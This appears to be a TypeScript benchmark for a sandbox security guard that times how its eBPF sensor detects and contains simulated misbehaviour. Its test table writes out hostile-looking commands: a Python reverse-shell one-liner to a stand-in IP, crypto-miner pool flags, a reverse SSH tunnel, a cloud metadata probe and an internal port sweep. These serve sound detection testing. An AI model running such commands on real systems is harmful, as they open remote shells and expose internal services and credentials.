// `praetor bench detect`: real misbehaviour in real sandboxes under the real guard (eBPF sensor,
// shipped rules, containment). For each family, N trials: exec → alert (from the kernel's exec
// timestamp to the alert event) and alert → contained (to the containment event). Plus the
// rule engine's throughput on one core and the sensor overhead on a benign workload.
import { mkdtempSync, rmSync } from 'node:fs';
import { EventBus, type PraetorEvent } from '../src/events/index.ts';
import { startGuard } from '../src/runner/index.ts';
import { SandboxManager } from '../src/sandbox/index.ts';
import { benchRulesEngine } from './rules-engine.ts';
import { benchSensors } from './sensors.ts';
import { pct } from './stats.ts';

// Each trial's command stays alive so containment has something to kill. `fresh`: a new
// sandbox per trial, for rules that are throttled per sandbox (one alert a minute) or whose
// containment destroys the sandbox. `kind` says what triggers the rule: an exec, or a connect
// seen by the kernel sensor (the sandbox has no network; the attempt alone is the signal).
type Family = { setup?: string; cmd: (i: number) => string; fresh?: boolean; kind: 'exec' | 'connect' };
const FAMILIES: Record<string, Family> = {
  'miner-name': { kind: 'exec', setup: 'cp /bin/sleep /tmp/xmrig', cmd: () => 'exec /tmp/xmrig 5' },
  'miner-flags': { kind: 'exec', cmd: () => "exec python3 -c 'import time; time.sleep(5)' --donate-level=1 -o stratum+tcp://pool.example.test:3333 -u wallet" },
  'reverse-shell': { kind: 'exec', cmd: () => "exec python3 -c 'import time; time.sleep(5)' -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.50\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'" },
  'ssh-tunnel': { kind: 'exec', setup: 'cp /bin/sleep /tmp/ssh', cmd: () => 'exec /tmp/ssh 5 -fNR 8080:localhost:22 tunnel@203.0.113.30' },
  'metadata-connect': { kind: 'connect', fresh: true, cmd: () => "exec python3 -c 'import socket,time\ntry: socket.create_connection((\"169.254.169.254\",80),timeout=1)\nexcept Exception: pass\ntime.sleep(5)'" },
  'internal-port-sweep': { kind: 'connect', fresh: true, cmd: () => "exec python3 -c 'import socket,time\nfor p in range(1,40):\n  s=socket.socket()\n  try: s.connect((\"10.99.0.10\",p))\n  except Exception: pass\n  s.close()\ntime.sleep(5)'" },
};


export async function benchDetect(o: { trials?: number; progress?: (m: string) => void } = {}): Promise<Record<string, unknown>> {
  const trials = o.trials ?? 100;
  const log = o.progress ?? (() => {});
  const state = mkdtempSync('/tmp/pt-bench-detect-');
  const bus = new EventBus();
  const guard = await startGuard({ bus, stateDir: state, detect: true, log });
  const m = await SandboxManager.open({ stateDir: state, bus });
  const alertMs: number[] = [];
  const containMs: number[] = [];
  const byKind: Record<'exec' | 'connect', { alert: number[]; contain: number[] }> = { exec: { alert: [], contain: [] }, connect: { alert: [], contain: [] } };
  // exec → contained, from the kernel's exec timestamp to the kill taking effect, split by who
  // killed: the eBPF sensor at exec (kernel_kill rules) or user space after the alert.
  const execContained = { kernel: [] as number[], user: [] as number[] };
  const perFamily: Record<string, { kind: string; alertP50Ms: number; alertP99Ms: number; containP50Ms: number; containP99Ms: number; detected: number; contained: number; trials: number; kernelKills: number; execContainedP99Ms: number }> = {};
  const open = async (f: Family) => {
    const sb = await m.create({});
    guard.watch(sb);
    if (f.setup) await sb.exec(['sh', '-c', f.setup]);
    return sb;
  };
  try {
    for (const [family, f] of Object.entries(FAMILIES)) {
      let sb = f.fresh ? undefined : await open(f);
      const fa: number[] = [];
      const fc: number[] = [];
      const fe: number[] = [];
      let kernelKills = 0;
      for (let i = 0; i < trials; i++) {
        const cur = sb ?? await open(f);
        const seen: PraetorEvent[] = [];
        let contained!: () => void;
        const containedP = new Promise<'contained'>((res) => { contained = () => res('contained'); });
        const off = bus.subscribe((e) => {
          if (e.sandboxId !== cur.id || !(e.kind === 'alert' || e.kind === 'containment' || e.kind === 'process.exec' || e.kind === 'net.connect')) return;
          seen.push(e);
          if (e.kind === 'containment') contained();
        });
        const h = cur.spawn(['sh', '-c', f.cmd(i)]);
        // A trial ends at containment (isolate leaves the process running), exit, or 6 s.
        const r = await Promise.race([h.done, containedP, new Promise<null>((res) => setTimeout(() => res(null), 6000))]);
        await new Promise((res) => setTimeout(res, 20)); // the remaining actions of the same alert
        off();
        if (r !== null && r !== 'contained') { /* exited */ } else h.kill();
        if (f.fresh) await cur.destroy(); else sb = cur;
        const alert = seen.find((e) => e.kind === 'alert');
        const cont = seen.find((e) => e.kind === 'containment' && e.ok);
        if (!alert || alert.kind !== 'alert') continue;
        // The first evidence event is the one whose arrival could have fired the rule at the
        // earliest; the last is what completed it (a sweep's 15th port). Latency runs from the last.
        const trigger = seen.filter((e) => alert.evidence.includes(e.id)).at(-1);
        if (trigger) fa.push((alert.ts - trigger.ts) / 1e6);
        if (cont) fc.push((cont.ts - alert.ts) / 1e6);
        const byKernel = seen.find((e) => e.kind === 'containment' && e.ok && e.by === 'kernel');
        if (f.kind === 'exec' && byKernel?.kind === 'containment') { kernelKills++; fe.push(byKernel.latencyMs); execContained.kernel.push(byKernel.latencyMs); }
        else if (f.kind === 'exec' && cont?.kind === 'containment') { fe.push(cont.latencyMs); execContained.user.push(cont.latencyMs); }
      }
      perFamily[family] = { kind: f.kind, alertP50Ms: pct(fa, 50, 2), alertP99Ms: pct(fa, 99, 2), containP50Ms: pct(fc, 50, 2), containP99Ms: pct(fc, 99, 2), detected: fa.length, contained: fc.length, trials, kernelKills, execContainedP99Ms: pct(fe, 99, 2) };
      alertMs.push(...fa);
      containMs.push(...fc);
      byKind[f.kind].alert.push(...fa);
      byKind[f.kind].contain.push(...fc);
      log(`${family}: ${fa.length}/${trials} detected, ${fc.length} contained (${kernelKills} in the kernel), alert p50 ${pct(fa, 50, 2)} p99 ${pct(fa, 99, 2)} ms, contain p50 ${pct(fc, 50, 2)} p99 ${pct(fc, 99, 2)} ms, exec→contained p99 ${pct(fe, 99, 2)} ms`);
      if (sb) await sb.destroy();
    }
  } finally {
    await m.close();
    await guard.close();
    rmSync(state, { recursive: true, force: true });
  }
  const engine = await benchRulesEngine();
  const sensors = await benchSensors();
  return {
    trialsPerFamily: trials,
    alertP50Ms: pct(alertMs, 50, 2), alertP99Ms: pct(alertMs, 99, 2),
    containP50Ms: pct(containMs, 50, 2), containP99Ms: pct(containMs, 99, 2),
    execAlertP99Ms: pct(byKind.exec.alert, 99, 2), connectAlertP99Ms: pct(byKind.connect.alert, 99, 2),
    execContainedKernel: { trials: execContained.kernel.length, p50Ms: pct(execContained.kernel, 50, 3), p99Ms: pct(execContained.kernel, 99, 3) },
    execContainedUser: { trials: execContained.user.length, p50Ms: pct(execContained.user, 50, 2), p99Ms: pct(execContained.user, 99, 2) },
    kernelKillDegraded: guard.degraded().filter((d) => /kernel kill/.test(d)),
    targets: { alertP99Ms: 50, containP99Ms: 20 },
    engineEventsPerSec: engine.engineEventsPerSec,
    overheadRatio: sensors.overheadRatio,
    families: perFamily,
  };
}
